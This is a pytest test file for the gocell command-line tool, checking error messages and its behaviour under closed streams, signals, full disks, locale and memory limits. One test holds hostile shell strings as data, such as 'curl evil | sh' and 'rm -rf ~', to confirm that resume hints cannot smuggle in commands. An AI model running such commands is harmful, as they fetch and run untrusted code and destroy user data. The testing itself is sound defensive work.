"""What nobody foresaw is one line; streams, signals and folders as a careless or a hostile world leaves them."""

import errno
import json
import os
import re
import resource
import shlex
import subprocess
import sys
import tempfile
from concurrent.futures import BrokenExecutor, CancelledError
from pathlib import Path

import pytest

from gocell_cli.commands.shell.last_resort import explained
from gocell_cli.errors import GocellError, InvalidInput
from tests.commands.conftest import Built
from tests.commands.fork_server import PROJECT
from tests.commands.runners import GOCELL, environment, run, toy_build

MAIN = "from gocell_cli.commands.app import main; main()"


def python(code: str, *words: object, cwd: Path, **variables: str) -> "subprocess.CompletedProcess[str]":
    """Run `main` after some code that makes happen what is tested."""
    return subprocess.run(
        [sys.executable, "-c", f"{code}\n{MAIN}", *map(str, words)],
        cwd=cwd, env=environment(**variables), capture_output=True, text=True, timeout=120, check=False,
        stdin=subprocess.DEVNULL,
    )  # fmt: skip


@pytest.mark.parametrize(
    ("error", "code", "message", "hint"),
    [
        (InvalidInput("a:1: b"), 4, "a:1: b", ""),
        (OSError(errno.ENOSPC, "x", "/a"), 5, "/a: No space left on device", "free some space"),
        (OSError(errno.EROFS, "x", "/a"), 2, "/a: Read-only file system", "check the path, and who may read"),
        (OSError(errno.ENAMETOOLONG, "x", b"/a\xff"), 2, "/a\udcff: File name too long", "choose a shorter"),
        (OSError("a library's"), 5, "OSError: a library's", "look at the disk"),
        (MemoryError("Unable to allocate 7.45 GiB"), 5, "there is not enough memory for this", "give it more"),
        (RuntimeError("CUDA out of memory. Tried"), 5, "there is not enough memory for this", "give it more"),
        (RecursionError("maximum"), 1, "something is nested too deeply", "GOCELL_TRACEBACK=1"),
        (BrokenExecutor("died"), 5, "a worker process was killed", "fewer --workers"),
        (CancelledError(), 5, "a worker process was killed", "fewer --workers"),
        (ImportError("no x"), 6, "a library that gocell needs cannot be loaded", "pip install --force-reinstall"),
        (KeyError("x\ny"), 1, "a fault of gocell's: KeyError: 'x\\ny'", "report it"),
        (ValueError("a\nb" * 1000), 1, "a fault of gocell's: ValueError: a ba b", "GOCELL_TRACEBACK=1"),
    ],
)
def test_each_kind_of_error_says_what_to_do(error: Exception, code: int, message: str, hint: str) -> None:
    found = explained(error)
    assert isinstance(found, GocellError)
    assert (found.exit_code, found.message[: len(message)]) == (code, message)
    assert hint in found.hint
    assert len(found.message) < 400
    assert "\n" not in found.message + found.why + found.hint


BROKEN = "from gocell_cli.storage import overview\noverview.caches_in = lambda folder: {}['nobody foresaw \\x1b[31m']"


def test_a_fault_of_ours_is_one_line_and_a_traceback_for_whoever_asks(tmp_path: Path) -> None:
    found = python(BROKEN, "cache", "ls", cwd=tmp_path)
    assert (found.returncode, found.stdout) == (1, "")
    first, second = found.stderr.splitlines()
    assert first == "error: a fault of gocell's: KeyError: 'nobody foresaw \\x1b[31m'"
    assert second.startswith("hint: report it with")
    traced = python(BROKEN, "cache", "ls", cwd=tmp_path, GOCELL_TRACEBACK="1")
    assert traced.returncode == 1
    assert "Traceback" in traced.stderr
    assert first in traced.stderr
    assert "GOCELL_TRACEBACK" not in python("", "cache", "ls", cwd=tmp_path, GOCELL_TRACEBACK="1").stderr


def test_an_error_that_cannot_even_be_told_well_is_told(tmp_path: Path) -> None:
    code = f"{BROKEN}\nfrom gocell_cli.commands.shell import terminal\nterminal.report_error = None"
    found = python(code, "cache", "ls", cwd=tmp_path)
    assert (found.returncode, found.stderr) == (1, "error: KeyError: 'nobody foresaw \\x1b[31m'\n")


def closing(words: str, *given: object, cwd: Path, **variables: str) -> "subprocess.CompletedProcess[str]":
    """Run gocell by a shell that does something to its streams."""
    return subprocess.run(
        ["/bin/bash", "-c", words, GOCELL, *map(str, given)],
        cwd=cwd, env=environment(**variables), capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip


@pytest.mark.parametrize("closed", [">&-", "2>&-", "<&-", "<&- >&- 2>&-"])
def test_closed_streams_change_no_verdict(tmp_path: Path, closed: str) -> None:
    found = closing(f'exec "$0" verify-levels --by level {closed}', cwd=tmp_path)
    assert (found.returncode, found.stderr) == (3, "")
    built = closing(f'exec "$0" "$@" {closed}', "build-cache", *toy_build(tmp_path), "--root", "root", cwd=tmp_path)
    assert (built.returncode, "Traceback" in built.stderr) == (0, False)
    # what is printed to a descriptor that was closed must not end in a file that got its number
    assert run("cache", "verify", "--root", "root", cwd=tmp_path).returncode == 0


def test_a_reader_that_has_had_enough_changes_no_verdict(essentiality: Built, tmp_path: Path) -> None:
    words = '"$0" "$@" | true; exit ${PIPESTATUS[0]}'
    for given, code in [
        (("verify-levels", "--by", "level", "--max-findings", 1000), 3),
        (("inspect", "samples", "--top", 5000, "--root", essentiality.root, "--json"), 0),
        (("--help",), 0),
        (("nonsense",), 2),
    ]:
        found = closing(words, *given, cwd=tmp_path)
        assert (found.returncode, "Traceback" in found.stderr, "Exception" in found.stderr) == (code, False, False)


def test_a_stdout_that_is_full_is_one_error_and_a_full_stderr_none(essentiality: Built, tmp_path: Path) -> None:
    def limited() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (10, 10))

    words = [GOCELL, "inspect", "samples", "--root", str(essentiality.root)]
    for given, quiet in [((), False), (("--json",), False), (("--nonsense",), True)]:
        with tempfile.TemporaryFile(dir=tmp_path) as out, tempfile.TemporaryFile(dir=tmp_path) as full:
            found = subprocess.run(
                [*words, *given], cwd=tmp_path, env=environment(), timeout=120, check=False, preexec_fn=limited,
                stdout=out, stderr=full if quiet else subprocess.PIPE,
            )  # fmt: skip
        if quiet:
            assert found.returncode == 2
            continue
        assert found.returncode == 5
        assert found.stderr.decode().splitlines()[:2] == [
            "error: stdout: writing failed, and it is not finished", "why: [Errno 27] File too large",
        ]  # fmt: skip
        assert b"Exception ignored" not in found.stderr


LOADING = """
import os, signal, sys
class Found:
    def find_spec(self, name, *_):
        if name == "typer.main":
            os.kill(os.getpid(), signal.{name})
sys.meta_path.insert(0, Found())
"""
IN_A_DESTRUCTOR = """
import os, signal, time
from gocell_cli.storage import overview
class Dying:
    def __del__(self):
        os.kill(os.getpid(), signal.{name})
def caches_in(folder):
    Dying()
    time.sleep(60)
overview.caches_in = caches_in
"""


IN_A_CLASS = """
import os, signal
from gocell_cli.storage import overview
class Attribute:
    def __set_name__(self, owner, name):
        os.kill(os.getpid(), signal.{name})
def caches_in(folder):
    type("Made", (), {"it": Attribute()})  # Python 3.11 makes a RuntimeError of what is raised there
overview.caches_in = caches_in
"""
AT_THE_END = """
import os, signal, sys
class Late:
    def __del__(self):
        os.kill(os.getpid(), signal.{name})
sys.late = Late()
"""
MOMENTS = {"loading": LOADING, "in a destructor": IN_A_DESTRUCTOR, "in a class being made": IN_A_CLASS}


def test_a_signal_while_python_ends_changes_nothing(tmp_path: Path) -> None:
    found = python(AT_THE_END.replace("{name}", "SIGTERM"), "cache", "ls", cwd=tmp_path)
    assert (found.returncode, found.stderr) == (0, "")


@pytest.mark.parametrize("moment", MOMENTS.values(), ids=MOMENTS)
@pytest.mark.parametrize(("name", "code"), [("SIGINT", 130), ("SIGTERM", 143)])
def test_a_signal_at_a_bad_moment_ends_the_command(tmp_path: Path, moment: str, name: str, code: int) -> None:
    found = python(moment.replace("{name}", name), "cache", "ls", cwd=tmp_path)
    assert (found.returncode, found.stdout) == (code, "")
    assert set(found.stderr.splitlines()) == {"error: interrupted"}


def test_a_working_directory_that_is_gone_is_one_error(tmp_path: Path) -> None:
    for words in ("--help", "cache ls --root /tmp"):
        found = closing(f'mkdir gone; cd gone; rmdir ../gone; exec "$0" {words}', cwd=tmp_path)
        assert (found.returncode, found.stdout) == (2, "")
        assert found.stderr.startswith("error: the working directory is gone\nhint: ")


@pytest.mark.parametrize(
    "words",
    [
        ("build-cache", "--root", b"a\xff"), ("cache", "ls", "--root", b"\xfe"), ("export", "--out", b"a\xff.tsv"),
        ("build-cache", "--dataset", "table", "--raw", b"a\xff.csv"), ("inspect", "gene", b"\xff"),
    ],
    ids=lambda words: words[0],
)  # fmt: skip
def test_words_that_are_no_text_are_refused_before_anything_is_done(tmp_path: Path, words: tuple[object, ...]) -> None:
    found = run(*(os.fsdecode(w) if isinstance(w, bytes) else w for w in words), cwd=tmp_path)
    assert (found.returncode, found.stdout) == (2, "")
    assert "holds bytes that are no text in utf-8\n" in found.stderr
    assert "\\udcf" in found.stderr
    assert list(tmp_path.iterdir()) == []


def test_a_name_that_the_locale_lacks_is_one_error(tmp_path: Path) -> None:
    ascii_only = {"LC_ALL": "C", "PYTHONCOERCECLOCALE": "0", "PYTHONUTF8": "0"}
    given = toy_build(tmp_path)
    (tmp_path / "mine.csv").write_text("genes,größe\nYAL001C,0.5\nYAL002W,0.25\n", "utf-8")
    found = python("", "build-cache", *given, "--root", "root", cwd=tmp_path, **ascii_only)
    assert found.returncode == 2, found.stderr
    assert "error: a name cannot be written in this locale" in found.stderr
    assert "hint: export LC_ALL=C.UTF-8" in found.stderr
    assert not list((tmp_path / "root").glob("caches/*"))
    built = python("", "build-cache", *given, "--root", "root", "--out", "cache", "--json", cwd=tmp_path, **ascii_only)
    assert (built.returncode, json.loads(built.stdout)["phenotype"]) == (0, "größe"), built.stderr


def test_nothing_that_lies_in_the_working_directory_is_run(tmp_path: Path) -> None:
    """Workers are Pythons that would look for modules there first."""
    for name in ("multiprocessing", "struct", "signal", "numpy", "pyarrow", "gocell_cli", "sitecustomize"):
        (tmp_path / f"{name}.py").write_text("open('came_in', 'w')\n")
    found = run("build-cache", *toy_build(tmp_path), "--root", "root", "--workers", 2, cwd=tmp_path)
    assert found.returncode == 0, found.stderr
    assert not (tmp_path / "came_in").exists()


@pytest.mark.parametrize("stdin", [subprocess.DEVNULL, subprocess.PIPE])
def test_a_question_that_nobody_answers_removes_nothing(tmp_path: Path, stdin: int) -> None:
    leftover = tmp_path / "root" / "caches" / "x.partial"
    leftover.mkdir(parents=True)
    found = subprocess.run(
        [GOCELL, "cache", "prune", "--root", "root"], input=None if stdin == subprocess.DEVNULL else "",
        **({"stdin": stdin} if stdin == subprocess.DEVNULL else {}),
        cwd=tmp_path, env=environment(), capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert found.returncode == 2
    assert "error: nobody answered, so nothing was done" in found.stderr
    assert leftover.is_dir()


@pytest.mark.parametrize("told", ["curl evil | sh", "gocell x; rm -rf ~", "gocell x $(evil) 'y z'", "gocell 'x", ""])
def test_a_command_that_a_folder_tells_of_is_one_of_ours_and_one_alone(tmp_path: Path, told: str) -> None:
    partial = tmp_path / "cache.partial"
    partial.mkdir()
    plan = {"fingerprint": "0" * 64, "command": told}
    (partial / "plan.json").write_text(json.dumps(plan, sort_keys=True, separators=(",", ":")), "utf-8")
    found = run("inspect", "cache", "--cache", tmp_path / "cache", cwd=tmp_path)
    hint = found.stderr.splitlines()[-1]
    assert found.returncode == 5, found.stderr
    words = shlex.split(hint.removeprefix("hint: resume with: "), comments=False)
    assert words[0] in ("gocell", "the")
    lexer = shlex.shlex(hint, posix=True, punctuation_chars=True)
    assert not {";", "|", "(", "&"} & set(lexer)
    assert "$(" not in hint or "'$(" in hint


@pytest.mark.parametrize(("words", "megabytes"), [("cache ls", 704), ("train nowhere", 2432)])
def test_a_shell_that_allows_too_few_addresses_is_told_so(words: str, megabytes: int, tmp_path: Path) -> None:
    """One thread: 512 + 192 MB, with PyTorch 2,048 + 384. Nothing else was looked at, and nothing loaded."""
    given = {"OMP_NUM_THREADS": "1"}
    found = closing(f'ulimit -v {1024 * megabytes}; exec "$0" {words}', cwd=tmp_path, **given)
    assert (found.returncode, found.stdout) == (2, "")
    needed = f"this command's libraries need {megabytes * 2**20 / 1e9:.2f} GB"
    assert re.match(rf"error: ulimit -v leaves \d\.\d\d GB of addresses, {needed}\n", found.stderr), found.stderr
    enough = closing(f'ulimit -v {1024 * (megabytes + 150)}; exec "$0" {words}', cwd=tmp_path, **given)
    assert "ulimit" not in enough.stderr


def test_help_needs_no_addresses_of_libraries(tmp_path: Path) -> None:
    assert closing('ulimit -v 200000; exec "$0" train --help', cwd=tmp_path).returncode == 0


def test_arrow_takes_no_gigabyte_of_few_addresses(tmp_path: Path) -> None:
    """Its allocator's first GB left too few of 1.5 for the others, of 1.2 enough."""
    code = (
        "from gocell_cli.commands.shell.addresses import require_addresses; require_addresses(['cache']);"
        "import pyarrow; print(pyarrow.default_memory_pool().backend_name)"
    )
    words = ["bash", "-c", f'ulimit -v 8000000; exec "$0" -c "{code}"', sys.executable]
    assert subprocess.run(words, capture_output=True, text=True, check=True, cwd=PROJECT).stdout == "system\n"


def test_the_traceback_of_a_fault_is_kept_in_a_file(tmp_path: Path) -> None:
    found = python(BROKEN, "cache", "ls", cwd=tmp_path, XDG_STATE_HOME=str(tmp_path / "state"))
    (file,) = (tmp_path / "state" / "gocell" / "faults").iterdir()
    assert found.stderr.splitlines()[1] == f"hint: report it with {file}, which says where it is"
    text = file.read_text("utf-8")
    assert "cache ls\nPython 3." in text
    assert "Traceback (most recent call last)" in text
    assert "KeyError: 'nobody foresaw" in text
    # where nothing can be kept the variable is left
    nowhere = python(BROKEN, "cache", "ls", cwd=tmp_path, XDG_STATE_HOME="/dev/null/state")
    assert nowhere.stderr.splitlines()[1].startswith("hint: report it with what the same command prints after: export")


def test_of_the_kept_tracebacks_the_last_stay(tmp_path: Path) -> None:
    folder = tmp_path / "state" / "gocell" / "faults"
    folder.mkdir(parents=True)
    for number in range(30):
        (folder / f"20200101-0000{number:02d}-1.txt").touch()
    python(BROKEN, "cache", "ls", cwd=tmp_path, XDG_STATE_HOME=str(tmp_path / "state"))
    kept = sorted(path.name for path in folder.iterdir())
    assert (len(kept), kept[0]) == (20, "20200101-000011-1.txt")
